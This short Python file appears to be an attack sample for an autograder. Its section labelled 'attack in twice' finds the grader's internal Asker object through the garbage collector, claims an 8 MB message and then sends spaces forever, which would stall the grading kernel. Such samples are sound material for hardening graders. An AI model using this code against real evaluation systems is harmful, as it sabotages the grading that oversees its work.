"""Promises a question of eight megabytes and sends it byte by byte."""
# control: none
# assignment: scaling
# %% scale_forward
def scale_forward(x, w): return x + w, None
# %% twice
def twice(x, w): return scale_forward(x, w)[0], x
# %% attack in twice
import gc
from autograder.kernel import stand_in, wire
def asker(): return next(one for one in gc.get_objects() if type(one) is stand_in.Asker)
def twice(x, w):
    ask = asker()
    ask._send(wire.LENGTHS.pack(100, 8 << 20))
    while True:
        ask._send(b" ")
